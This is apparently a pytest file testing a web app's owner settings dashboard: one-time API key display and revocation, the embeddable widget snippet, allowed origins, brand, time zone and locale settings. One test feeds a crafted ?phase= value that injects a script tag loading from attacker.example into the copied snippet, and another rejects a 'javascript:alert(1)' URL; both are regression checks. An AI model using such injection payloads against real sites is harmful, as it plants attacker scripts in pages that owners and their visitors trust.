"""Owner settings: API keys shown once, revoked for good; widget snippet; allowed origins; jobs."""

import html
import re
from urllib.parse import urlencode

import pytest

from app.extensions import db
from app.models import ApiKey, Brand
from tests.api.test_brand_profile import stored_profile


def test_a_new_api_key_is_shown_once_and_works(dash, client, brand, count_rows):
    response = dash.post("/dashboard/settings/api-keys", {"name": "crm"})
    assert response.status_code == 201
    assert response.headers["Cache-Control"] == "no-store"
    secret = re.search(r'id="new-secret">(sk_[^<]+)<', response.get_data(as_text=True)).group(1)
    assert count_rows(ApiKey) == 2
    listed = client.get("/api/v1/journeys", headers={"Authorization": f"Bearer {secret}"})
    assert listed.status_code == 200
    page = dash.html("/dashboard/settings")
    assert secret not in page and secret[:10] in page  # only the prefix, from now on


def test_revoking_a_key_makes_it_401(dash, client, api_key):
    key = db.session.query(ApiKey).one()
    assert dash.post(f"/dashboard/settings/api-keys/{key.id}/revoke").status_code == 302
    revoked = client.get("/api/v1/journeys", headers={"Authorization": f"Bearer {api_key}"})
    assert revoked.status_code == 401
    assert "revoked" in dash.html("/dashboard/settings")


def test_a_key_needs_a_name(dash, count_rows):
    for name in ("", "x" * 81):
        assert dash.post("/dashboard/settings/api-keys", {"name": name}).status_code == 422
    assert count_rows(ApiKey) == 1


def _snippet(page: str) -> str:
    """What the snippet's textarea holds: the text an owner copies into their site."""
    return html.unescape(re.search(r'<textarea id="snippet"[^>]*>(.*?)</textarea>', page, re.S)[1])


def test_the_widget_snippet_has_the_site_key_and_a_copy_button(dash, brand, journey):
    page = dash.html("/dashboard/settings?phase=levering")
    snippet = _snippet(page)
    assert f'data-site-key="{brand.site_key}"' in snippet
    assert 'data-phase="levering"' in snippet
    assert snippet.startswith("<script src=") and snippet.endswith(" async></script>")
    assert 'class="copy" data-copy="#snippet" hidden' in page  # shown by dashboard.js
    assert "/static/dashboard.js" in page


def test_the_snippet_says_when_no_survey_asks_its_phase(dash, survey):
    """A tag for a phase without an active survey opens nothing: the owner copied it, pasted
    it and saw a 404 in the console (trial walkthrough)."""
    idle = dash.html("/dashboard/settings?phase=orientatie")
    assert "data-no-survey" in idle and 'aria-describedby="snippet-idle"' in idle
    assert ">Oriëntatie (orientatie) – no active survey</option>" in idle
    asking = dash.html("/dashboard/settings?phase=levering")
    assert "data-no-survey" not in asking
    assert "(levering) – no active survey" not in asking


def test_a_link_cannot_write_into_the_snippet_an_owner_copies(dash, journey):
    """The textarea decodes what the page escaped once: a crafted ?phase= came out as a
    script tag of the attacker's, in the text the Copy button copies."""
    attack = 'levering"><script src=https://attacker.example/x.js></script><i x="'
    page = dash.html("/dashboard/settings?" + urlencode({"phase": attack}))
    snippet = _snippet(page)
    assert "attacker" not in snippet and "attacker" not in html.unescape(page)
    assert 'data-phase="orientatie"' in snippet  # an unknown phase: the journey's first


def test_allowed_origins_are_validated_like_the_cli(dash, brand):
    ok = dash.post(
        "/dashboard/settings/origins",
        {"origins": "https://Shop.Example/\nhttps://shop.example\nhttp://localhost:8000\n\n"},
    )
    assert ok.status_code == 302
    db.session.expire_all()
    assert db.session.get(Brand, brand.id).allowed_origins == [
        "https://shop.example",
        "http://localhost:8000",
    ]
    bad = dash.post("/dashboard/settings/origins", {"origins": "shop.example\nftp://x"})
    assert bad.status_code == 422
    assert "not an origin" in bad.get_data(as_text=True)
    assert dash.post("/dashboard/settings/origins", {}).status_code == 400  # no box: no change
    for port in ("99999", "65536", "0"):
        no_port = dash.post("/dashboard/settings/origins", {"origins": f"https://s.example:{port}"})
        assert no_port.status_code == 422, port
    many = dash.post(
        "/dashboard/settings/origins",
        {"origins": "\n".join(f"https://s{i}.example" for i in range(21))},
    )
    assert many.status_code == 422
    db.session.expire_all()
    assert len(db.session.get(Brand, brand.id).allowed_origins) == 2
    # schemes and hosts are case-insensitive: typed in capitals, still an origin
    capitals = dash.post("/dashboard/settings/origins", {"origins": "HTTP://LOCALHOST:5612/"})
    assert capitals.status_code == 302
    db.session.expire_all()
    assert db.session.get(Brand, brand.id).allowed_origins == ["http://localhost:5612"]


def test_jobs_page_without_redis(dash):
    page = dash.html("/dashboard/jobs")
    assert "inline" in page and "No failed jobs" in page


def test_jobs_page_lists_answers_set_aside(dash, api, survey, db):
    from app.models import Response
    from tests.dashboard.conftest import answer

    response_id = answer(api, survey, 7)
    db.session.execute(db.update(Response).values(status="failed"))  # as the pipeline marks one
    db.session.commit()
    page = dash.html("/dashboard/jobs")
    assert f"ids {response_id}" in page and "pipeline retry" in page


def test_the_dashboard_changes_the_brand_and_shows_mistakes(dash, as_role, brand):
    page = dash.html("/dashboard/settings")
    assert 'id="brand-address"' in page and "“u” (formal)" in page
    saved = dash.post(
        "/dashboard/settings/brand",
        {"name": "Testbad BV", "primary_color": "#aa3300", "formal_address": "1"},
    )
    assert saved.status_code == 302 and saved.headers["Location"].endswith("#brand")
    assert stored_profile(brand)[:3] == ("Testbad BV", "#aa3300", True)

    bad = dash.post(
        "/dashboard/settings/brand",
        {"name": "", "primary_color": "oranje", "formal_address": "maybe"},
    )
    assert bad.status_code == 422
    html = bad.get_data(as_text=True)
    assert 'id="err-name"' in html and 'id="err-primary_color"' in html
    assert 'id="err-formal_address"' in html and 'value="oranje"' in html
    assert stored_profile(brand)[:3] == ("Testbad BV", "#aa3300", True)

    viewer = as_role("viewer").post(
        "/dashboard/settings/brand", {"name": "X", "formal_address": "0"}
    )
    assert viewer.status_code == 403
    assert stored_profile(brand)[0] == "Testbad BV"


def test_the_contact_budget_and_publishing_are_set_in_the_dashboard(dash, brand):
    from app.services import contact_budget, reviews

    page = dash.html("/dashboard/settings")
    assert 'name="contact_policy.min_days_between"' in page and 'value="14"' in page
    form = {
        "name": "Testbad",
        "primary_color": "#0b6e4f",
        "formal_address": "0",
        "contact_policy.min_days_between": "3",
        "contact_policy.same_phase_days": "0",
        "contact_policy.max_per_journey": "6",
        "review_policy.publish": "immediate",
    }
    assert dash.post("/dashboard/settings/brand", form).status_code == 302
    db.session.expire_all()
    stored = db.session.get(Brand, brand.id)
    assert contact_budget.policy(stored) == {
        "min_days_between": 3,
        "max_per_journey": 6,
        "same_phase_days": 0,
    }
    assert reviews.policy_mode(stored, "levering") == "immediate"
    bad = dash.post(
        "/dashboard/settings/brand",
        {**form, "contact_policy.min_days_between": "-2", "review_policy.publish": "later"},
    )
    assert bad.status_code == 422
    html = bad.get_data(as_text=True)
    assert 'id="err-contact_policy-min_days_between"' in html
    assert "greater than or equal to 0" in html  # the range, not "Not a valid integer"
    assert 'id="err-review_policy-publish"' in html
    db.session.expire_all()
    assert contact_budget.policy(db.session.get(Brand, brand.id))["min_days_between"] == 3


def test_unverified_reviews_are_held_from_the_dashboard(dash, brand):
    from app.services import reviews

    page = dash.html("/dashboard/settings")
    assert '<option value="follow_phase" selected>follow the rule above</option>' in page
    form = {"name": "Testbad", "review_policy.unverified": "moderate"}
    assert dash.post("/dashboard/settings/brand", form).status_code == 302
    db.session.expire_all()
    stored = db.session.get(Brand, brand.id)
    assert reviews.unverified_mode(stored) == "moderate"
    assert stored.review_policy["publish"] == "moderate"  # the rest of the policy kept
    page = dash.html("/dashboard/settings")
    assert '<option value="moderate" selected>always held for a moderator</option>' in page
    bad = dash.post("/dashboard/settings/brand", {**form, "review_policy.unverified": "later"})
    assert bad.status_code == 422
    assert 'id="err-review_policy-unverified"' in bad.get_data(as_text=True)
    db.session.expire_all()
    assert db.session.get(Brand, brand.id).review_policy["unverified"] == "moderate"


def test_the_time_zone_is_chosen_from_the_zones_there_are(dash, brand):
    page = dash.html("/dashboard/settings")
    assert '<option value="Europe/Amsterdam" selected>Europe/Amsterdam</option>' in page
    form = {"name": "Testbad", "primary_color": "#0b6e4f", "time_zone": "America/Curacao"}
    assert dash.post("/dashboard/settings/brand", form).status_code == 302
    db.session.expire_all()
    assert db.session.get(Brand, brand.id).time_zone == "America/Curacao"
    bad = dash.post("/dashboard/settings/brand", {**form, "time_zone": "Europe/Atlantis"})
    assert bad.status_code == 422
    html = bad.get_data(as_text=True)
    assert 'id="err-time_zone"' in html and "must be an IANA time zone" in html
    db.session.expire_all()
    assert db.session.get(Brand, brand.id).time_zone == "America/Curacao"


@pytest.mark.parametrize(
    "field, good, bad",
    [
        ("reply_to", "ks@testbad.example", "ks@"),
        ("privacy_url", "https://testbad.example/privacy", "javascript:alert(1)"),
    ],
)
def test_an_address_is_set_and_emptied_in_the_dashboard(dash, brand, field, good, bad):
    form = {"name": "Testbad", "primary_color": "#0b6e4f", field: good}
    assert dash.post("/dashboard/settings/brand", form).status_code == 302
    db.session.expire_all()
    assert getattr(db.session.get(Brand, brand.id), field) == good
    assert f'value="{good}"' in dash.html("/dashboard/settings")
    refused = dash.post("/dashboard/settings/brand", {**form, field: bad})
    assert refused.status_code == 422 and f'id="err-{field}"' in refused.get_data(as_text=True)
    db.session.expire_all()
    assert getattr(db.session.get(Brand, brand.id), field) == good
    assert dash.post("/dashboard/settings/brand", {**form, field: ""}).status_code == 302
    db.session.expire_all()
    assert getattr(db.session.get(Brand, brand.id), field) is None


def test_the_customers_language_is_chosen_in_the_dashboard(dash, brand):
    form = {"name": "Testbad", "primary_color": "#0b6e4f", "default_locale": "en"}
    assert dash.post("/dashboard/settings/brand", form).status_code == 302
    db.session.expire_all()
    assert db.session.get(Brand, brand.id).default_locale == "en"
    assert '<option value="en" selected>English</option>' in dash.html("/dashboard/settings")
    refused = dash.post("/dashboard/settings/brand", {**form, "default_locale": "de"})
    assert refused.status_code == 422 and 'id="err-default_locale"' in refused.get_data(True)


def test_a_stored_zone_this_server_does_not_list_stays_selected(dash, brand):
    """Else the select showed the first zone, and any save of the brand stored that one."""
    db.session.get(Brand, brand.id).time_zone = "US/Pacific-New"
    db.session.commit()
    page = dash.html("/dashboard/settings")
    assert '<option value="US/Pacific-New" selected>US/Pacific-New</option>' in page


def test_a_field_error_stays_inside_its_field(dash):
    """The error was a <p> inside the field's <p>: invalid HTML, which the browser moved out
    into a grid cell of its own, shifting the fields after it; and it named send_from_hour."""
    form = {"name": "Testbad", "primary_color": "#0b6e4f"}
    bad = dash.post(
        "/dashboard/settings/brand", {**form, "send_from_hour": 22, "send_until_hour": 8}
    )
    page = bad.get_data(as_text=True)
    assert bad.status_code == 422
    field = page.split('id="brand-send-until"')[1].split("</p>")[0]
    assert '<span class="field-error" id="err-send_until_hour">' in field
    assert "must be later than the first sending hour" in field and "send_from_hour" not in field
